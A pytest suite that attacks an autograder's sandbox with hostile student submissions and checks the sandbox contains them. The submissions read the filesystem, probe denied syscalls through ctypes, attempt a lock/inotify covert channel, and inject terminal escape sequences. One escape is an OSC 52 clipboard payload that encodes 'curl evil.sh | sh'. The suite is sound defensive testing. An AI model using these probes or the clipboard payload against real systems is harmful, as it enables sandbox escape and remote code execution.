"""Second-round attacks on the sandbox and the protocol (issue 11), each a real submission graded
for real by each backend (``process``, and ``docker`` where a docker engine and the grading image
are present), plus the resource figures of issue 17.

Each attack module defines ``probe()``; the assignment's one test calls it and records what it
returned (plain data) in a folder of the trusted side, where the checks below read it. Every
module also defines ``alive()``, called by a second test: the runner still serves after the
probe.
"""

from __future__ import annotations

import errno
import io
import json
import os
import re
import sys
import textwrap
import time
from pathlib import Path

import pytest

from autograder.course import Course
from autograder.harness.grader import grade_uploads
from autograder.sandbox import policy
from tests.conftest import as_root, write
from tests.support.sandboxes import sandbox_for

pytestmark = pytest.mark.skipif(not as_root(), reason="the full process sandbox needs root")

# A uid range apart from test_attacks.py's, so its leftover check is not confused by ours.
UID_BASE = 64000 + (os.getpid() % 400) * 2

TESTS = '''
import json
import numpy as np
import pytest
from pathlib import Path
from autograder.checks import assert_close

OUT = Path({outdir!r})

@pytest.mark.points(1)
def test_probe(student, submission):
    result = student.probe()
    if isinstance(result, np.ndarray) or hasattr(result, "_type_name"):
        assert_close(result, np.zeros(1), name="probe")
    (OUT / (submission.id + ".json")).write_text(json.dumps(result))

@pytest.mark.points(1)
def test_still_serving(student):
    assert student.alive() == 1
'''

ALIVE = "\ndef alive():\n    return 1\n"

# name -> source of a module defining probe()
ATTACKS: dict[str, str] = {
    # Finding 3: every file a runner can read, through a normal return value.
    "listing": '''
        import os
        def probe():
            found = []
            for top in os.listdir("/"):
                if top in ("proc", "sys", "dev"):
                    continue
                path = "/" + top
                if os.path.isfile(path):
                    found.append(path)
                for dirpath, dirnames, filenames in os.walk(path):
                    for name in filenames:
                        p = os.path.join(dirpath, name)
                        if os.path.isfile(p) and os.access(p, os.R_OK):
                            found.append(p)
            return "\\n".join(found)
        ''',
    # Weaknesses: outcomes from what the sandbox saw, not from what the student chose.
    "exit_137": '''
        import os
        def probe():
            os._exit(137)
        ''',
    "fake_memory_error": '''
        class MemoryError(Exception):
            pass
        def probe():
            raise MemoryError("not the built-in one")
        ''',
    "system_exit_bad_repr": '''
        class Unprintable:
            def __repr__(self):
                raise RuntimeError("no repr for you")
            __str__ = __repr__
        def probe():
            raise SystemExit(Unprintable())
        ''',
    "datetime_array": '''
        import numpy as np
        def probe():
            return np.array(["2020-01-01", "2021-01-01"], dtype="datetime64[D]")
        ''',
    "structured_array": '''
        import numpy as np
        def probe():
            return np.zeros(2, dtype=[("a", "<i4"), ("b", "<f8")])
        ''',
    # Finding 4: terminal control sequences in output, exception messages and type names.
    "control_sequences": '''
        import sys
        OSC52 = "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07"
        TITLE = "\\x1b]0;pwned\\x07"
        CLEAR = "\\x1b[2J\\x1b[H\\x1bc"
        C1 = "\\x9b31m\\x9d0;c1\\x9c"
        print("hello" + OSC52 + TITLE + CLEAR + C1)
        sys.stderr.write(CLEAR + "on stderr\\n")
        Evil = type("Evil" + TITLE + C1, (Exception,), {})
        def probe():
            print(OSC52 + "in the call" + C1)
            raise Evil(CLEAR + "score 36 / 36" + OSC52 + C1)
        ''',
    # One sandbox policy: a few of the calls the two filters used to disagree on.
    "denied_syscalls": '''
        import ctypes, errno, fcntl, os, struct
        libc = ctypes.CDLL(None, use_errno=True)
        def attempt(fn):
            ctypes.set_errno(0)
            try:
                result = fn()
            except OSError as e:
                return errno.errorcode.get(e.errno, str(e.errno))
            if result == -1:
                return errno.errorcode.get(ctypes.get_errno(), "?")
            return "ALLOWED"
        def probe():
            params = ctypes.create_string_buffer(120)
            shared = os.__file__  # the interpreter's standard library: shared by every runner
            fd = os.open(shared, os.O_RDONLY)
            lock = struct.pack("hhqqi", fcntl.F_RDLCK, 0, 0, 0, 0)
            return {
                "io_uring_setup": attempt(lambda: libc.syscall(425, 4, params)),
                "pidfd_getfd": attempt(lambda: libc.syscall(438, 0, 0, 0)),
                "kcmp": attempt(lambda: libc.syscall(312, os.getpid(), os.getpid(), 0, 0, 0)),
                "syslog": attempt(lambda: libc.syscall(103, 10, 0, 0)),
                "chroot": attempt(lambda: libc.chroot(b"/tmp")),
                "clone(CLONE_NEWCGROUP)": attempt(
                    lambda: libc.syscall(56, 0x02000000 | 17, 0, 0, 0, 0)),
                "unshare(CLONE_NEWTIME)": attempt(lambda: libc.unshare(0x80)),
                "flock": attempt(lambda: fcntl.flock(fd, fcntl.LOCK_SH | fcntl.LOCK_NB)),
                "fcntl(F_SETLK)": attempt(lambda: fcntl.fcntl(fd, fcntl.F_SETLK, lock)),
                "fcntl(F_OFD_SETLK)": attempt(lambda: fcntl.fcntl(fd, 37, lock)),
                "inotify_init1": attempt(lambda: libc.inotify_init1(0)),
            }
        ''',
    # Issue 17: the figures are the student code's own.
    "cpu_burn": '''
        import time
        def probe():
            end = time.process_time() + 1.0
            n = 0
            while time.process_time() < end:
                n += 1
            return n
        ''',
    "honest": '''
        def probe():
            return [1, 2, 3]
        ''',
}


@pytest.fixture(scope="module", params=["process", "docker"])
def backend(request):
    return request.param


@pytest.fixture(scope="module")
def escape_sandbox(backend):
    with sandbox_for(backend, UID_BASE) as sb:
        yield sb


@pytest.fixture(scope="module")
def graded(tmp_path_factory, escape_sandbox):
    root = tmp_path_factory.mktemp("escape-course")
    probes = root / "probes"
    probes.mkdir()
    write(root / "course.toml", 'name = "escapes"\n')
    write(root / "assignments/toy/assignment.toml",
          'name = "toy"\nmodules = ["toy"]\n[resources]\ntest_time_limit_s = 120\n'
          'time_limit_s = 240\nmemory_mb = 512\nmax_output_kb = 16\nmax_processes = 32\n'
          'disk_mb = 16\nmax_message_mb = 64\n')
    write(root / "assignments/toy/tests/test_public.py", TESTS.format(outdir=str(probes)))
    write(root / "solutions/toy/toy.py", "def probe():\n    return 0\n" + ALIVE)
    uploads = [write(root / "uploads" / f"{name}.py", textwrap.dedent(src) + ALIVE)
               for name, src in ATTACKS.items()]
    results = grade_uploads(Course(root).assignment("toy"), uploads, sandbox=escape_sandbox)
    for r in results:
        r.write(root / "graded" / r.submission / "results.json")

    def probe(name: str):
        path = probes / f"{name}.json"
        return json.loads(path.read_text()) if path.exists() else None

    return {r.submission: r for r in results}, probe, root / "graded"


def _test(result, name: str):
    return next(t for t in result.tests if t.name.endswith(name))


# --- Finding 3: nothing but the runner's, the student's, the interpreter's and the libraries' --
def _allowed_library_tops() -> set[str]:
    """Top-level names (packages, modules, dist-info folders) of the runner's libraries and of
    what they require, as installed for this interpreter; the image installs the same set."""
    from autograder.sandbox.process import library_entries

    tops = {os.path.basename(e) for e in library_entries()}
    # The image's Debian python3-pip, the interpreter's own installer, sits in dist-packages.
    return tops | {"pip", "setuptools", "pkg_resources", "_distutils_hack", "wheel"}


def _normalise_dist(top: str) -> str:
    return re.sub(r"-[^-]*\.(dist|egg)-info$", "", top).replace("-", "_").lower()


def _python_site_dirs(backend: str) -> list[str]:
    """Where the runner's interpreter finds installed packages (another program's bundled
    Python under /usr is the system's, not the runner's)."""
    if backend == "docker":  # Debian's python3 in the image
        dirs = ["/usr/local/lib/python3.11/dist-packages", "/usr/lib/python3/dist-packages",
                "/usr/lib/python3.11/site-packages", "/usr/local/lib/python3.11/site-packages"]
    else:
        from autograder.sandbox.process import _site_dirs

        dirs = _site_dirs()
    # /lib is a symlink to /usr/lib on current Debian: the same folders under both names.
    return dirs + ["/lib/" + d[len("/usr/lib/"):] for d in dirs if d.startswith("/usr/lib/")]


def _classify(path: str, backend: str, tops: set[str]) -> str | None:
    """Why ``path`` may be readable inside the sandbox, or None when it must not be."""
    dist_tops = {_normalise_dist(t) for t in tops if t.endswith((".dist-info", ".egg-info"))}
    if path.startswith("/submission/") or (backend == "docker" and path.startswith("/ag/files/")):
        return "student"
    if path.startswith(policy.RUNNER_ROOT + "/"):
        rel = path[len(policy.RUNNER_ROOT) + 1:].replace("__pycache__/", "")
        rel = re.sub(r"\.cpython-\d+\.pyc$", ".py", rel)
        return "runner" if rel.removeprefix("autograder/") in policy.RUNNER_FILES else None
    parts = path.split("/")
    for site in _python_site_dirs(backend):
        if path.startswith(site + "/"):
            top = path[len(site) + 1:].split("/")[0]
            if top in tops or _normalise_dist(top) in dist_tops | tops:
                return "library"
            if top.endswith(".pth") or top == "README.txt" or top == "__pycache__":
                return "interpreter"  # path hooks and notes of the installer, no code
            return None
    if "autograder" in parts:  # anything of the platform outside the runner's own files
        return None
    venv = os.path.realpath(sys.prefix)
    if venv != os.path.realpath(sys.base_prefix) and path.startswith(venv + "/"):
        rel = path[len(venv) + 1:]  # of a virtualenv: how to start python, no more
        return "interpreter" if rel == "pyvenv.cfg" or re.fullmatch(r"bin/python[\d.]*", rel) \
            else None
    interpreter = [os.path.realpath(sys.base_prefix)]
    system = ["/usr", "/bin", "/sbin", "/lib", "/lib64", "/etc"]
    if backend == "docker":  # the image's Debian root (minbase): the interpreter's system
        system += ["/var/lib", "/var/cache", "/var/log", "/root", "/.dockerenv"]
        if path.startswith("/ag/chan/"):
            return "runner"  # the protocol's FIFOs and the hand-over mark
    if any(path == d or path.startswith(d.rstrip("/") + "/") for d in system + interpreter):
        return "interpreter"
    return None


def test_only_the_runners_the_students_the_interpreters_and_library_files_are_readable(
        graded, backend):
    results, probe, _ = graded
    listing = probe("listing")
    assert listing, [t.output[:500] for t in results["listing"].tests]
    paths = listing.split("\n")
    tops = _allowed_library_tops()
    kinds: dict[str, list[str]] = {}
    for path in paths:
        kinds.setdefault(_classify(path, backend, tops) or "forbidden", []).append(path)
    forbidden = sorted({"/".join(p.split("/")[:7]) for p in kinds.get("forbidden", [])})
    assert not forbidden, forbidden[:60]
    assert "/submission/toy.py" in kinds["student"]
    assert {p.rsplit("/autograder/", 1)[1] for p in kinds["runner"]
            if p.endswith(".py")} == set(policy.RUNNER_FILES)
    # The libraries are there (numpy's own files), the rest of the virtualenv is not.
    assert any("/numpy/" in p for p in kinds["library"])
    for absent in ("/sklearn/", "/nbgrader/", "/pytest/", "/sqlalchemy/", "/_pytest/",
                   "/autograder/harness/", "/autograder/demo/", "correct.py"):
        assert not any(absent in p for p in paths), absent


def test_no_solution_ships_in_the_package():
    import autograder

    package = Path(autograder.__file__).parent
    assert not (package / "demo" / "samples").exists()
    sources = [p for p in package.rglob("*.py")]
    for path in sources:
        text = path.read_text(errors="replace")
        assert "# BEGIN SOLUTION" not in text or "authoring" in path.parts, path


# --- Weaknesses: outcomes from what the sandbox observed ------------------------------------------
def test_an_exit_status_of_137_is_not_called_a_kill(graded, backend):
    results, _, _ = graded
    t = _test(results["exit_137"], "test_probe")
    assert t.outcome == "crash", t.output
    assert "137" in t.output
    assert "memory or CPU limit" not in t.output and "killed from outside" not in t.output
    if backend == "process":  # the wait status is exact there
        assert "exited with status 137" in t.output and "SIGKILL" not in t.output


def test_a_class_named_memory_error_is_not_the_memory_limit(graded):
    results, _, _ = graded
    t = _test(results["fake_memory_error"], "test_probe")
    assert t.outcome == "error", t.output
    assert "not the built-in one" in t.output
    assert "memory limit" not in t.output


def test_a_system_exit_with_a_failing_repr_leaves_the_runner_serving(graded):
    results, _, _ = graded
    r = results["system_exit_bad_repr"]
    probe_test = _test(r, "test_probe")
    assert probe_test.outcome == "error", probe_test.output
    assert "sys.exit(<a value whose repr failed>)" in probe_test.output
    assert _test(r, "test_still_serving").outcome == "passed"
    assert r.resources.runner_starts == 1  # the same runner answered both tests


@pytest.mark.parametrize("name", ["datetime_array", "structured_array"])
def test_refused_dtypes_say_which_are_accepted(graded, name):
    results, _, _ = graded
    t = _test(results[name], "test_probe")
    assert t.outcome == "failed", t.output
    assert "only bool, int, uint, float and complex arrays cross" in t.output
    assert ("datetime64" in t.output) if name == "datetime_array" else ("structured" in t.output)


# --- Finding 4: no control character reaches a results file or a terminal ----------------------
_CONTROL_BYTES = re.compile(rb"[\x07\x1b]|\xc2[\x80-\x9f]")


def test_control_sequences_never_reach_results_or_the_terminal(graded):
    from rich.console import Console

    from autograder.report import score_table, test_table, warn_degraded

    results, _, outdir = graded
    r = results["control_sequences"]
    raw = (outdir / "control_sequences" / "results.json").read_bytes()
    assert not _CONTROL_BYTES.search(raw), _CONTROL_BYTES.search(raw)
    text = json.dumps(r.to_json(), ensure_ascii=False)
    assert "\\e]52;c;" in text and "score 36 / 36" in text  # shown, made harmless
    assert "Evil" in text
    out = io.StringIO()
    console = Console(file=out, width=200, force_terminal=False, color_system=None)
    warn_degraded(console, [r])
    console.print(test_table(r))  # what `grade --details` prints
    console.print(score_table([r]))
    printed = out.getvalue().encode()
    assert "Evil" in out.getvalue()
    assert not _CONTROL_BYTES.search(printed), printed[:2000]


# --- One sandbox policy: the calls are refused on both backends -------------------------------------
def test_the_policys_calls_are_refused(graded):
    results, probe, _ = graded
    refused = probe("denied_syscalls")
    assert refused, [t.output[:500] for t in results["denied_syscalls"].tests]
    assert len(refused) == 11
    assert all(v == "EPERM" for v in refused.values()), refused


# --- Issue 17: resource figures are the student code's own -----------------------------------------
def test_cpu_time_is_the_student_codes_own(graded, backend):
    results, probe, _ = graded
    assert probe("cpu_burn") > 0
    burn = results["cpu_burn"].resources
    honest = results["honest"].resources
    if backend == "docker" and burn.cpu_s == 0:
        pytest.skip("the docker backend reports no CPU time here")
    assert 0.9 <= burn.cpu_s <= 1.9, burn
    assert honest.cpu_s < 0.6, honest
    assert burn.max_rss_mb > 0


def test_nothing_was_charged_to_an_honest_module(graded):
    results, probe, _ = graded
    assert results["honest"].score == results["honest"].max_score == 2
    assert probe("honest") == [1, 2, 3]


# --- flock and inotify: no covert channel between two runners graded at once -----------------------
SENDER = '''
import ctypes, fcntl, os, threading, time
libc = ctypes.CDLL(None, use_errno=True)
held = []
def send(path):
    """Hold a lock on a shared file, and open it again and again (inotify's events)."""
    result = {}
    fd = os.open(path, os.O_RDONLY)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
        result["flock"] = "locked"
        held.append(fd)
    except OSError as e:
        result["flock"] = os.strerror(e.errno)
    def touch():
        for _ in range(400):
            os.close(os.open(path, os.O_RDONLY))
            time.sleep(0.005)
    threading.Thread(target=touch, daemon=True).start()
    return result
'''

RECEIVER = '''
import ctypes, errno, fcntl, os, select, time
libc = ctypes.CDLL(None, use_errno=True)
def watch(path):
    """Start watching the shared file (inotify)."""
    global ino
    ino = libc.inotify_init1(os.O_NONBLOCK)
    if ino < 0:
        return "inotify: " + os.strerror(ctypes.get_errno())
    wd = libc.inotify_add_watch(ino, path.encode(), 0x20 | 0x1)  # IN_OPEN | IN_ACCESS
    return "watching" if wd >= 0 else "watch: " + os.strerror(ctypes.get_errno())
def receive(path):
    """What can be seen of the other runner: its lock, its opens."""
    seen = {}
    fd = os.open(path, os.O_RDONLY)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
        seen["flock"] = "free"
    except OSError as e:
        seen["flock"] = errno.errorcode.get(e.errno, str(e.errno))
    if globals().get("ino", -1) >= 0:
        time.sleep(0.5)
        try:
            seen["inotify_bytes"] = len(os.read(ino, 65536))
        except BlockingIOError:
            seen["inotify_bytes"] = 0
    return seen
'''


def test_two_runners_at_once_cannot_signal_through_locks_or_watches(escape_sandbox, tmp_path,
                                                                     backend):
    from autograder.harness.remote import StudentSession
    from autograder.sandbox.base import Limits

    write(tmp_path / "a" / "sender.py", SENDER)
    write(tmp_path / "b" / "receiver.py", RECEIVER)
    limits = Limits(memory_mb=256, cpu_s=60)
    a = StudentSession(escape_sandbox, tmp_path / "a", limits, ("sender",), slot=0)
    b = StudentSession(escape_sandbox, tmp_path / "b", limits, ("receiver",), slot=1)
    try:
        for s in (a, b):
            s.deadline = time.monotonic() + 120
        # A file both runners see, the same inode: the runner's own protocol module.
        shared = policy.RUNNER_ROOT + "/autograder/protocol.py"
        watching = b.module("receiver").watch(shared)
        sent = a.module("sender").send(shared)
        seen = b.module("receiver").receive(shared)
    finally:
        a.close()
        b.close()
    assert sent["flock"] == os.strerror(errno.EPERM), sent
    assert seen["flock"] == "EPERM", seen  # never EWOULDBLOCK: the lock is not a signal
    assert watching.startswith("inotify: "), watching  # no watch, so no opens to count
    assert "inotify_bytes" not in seen
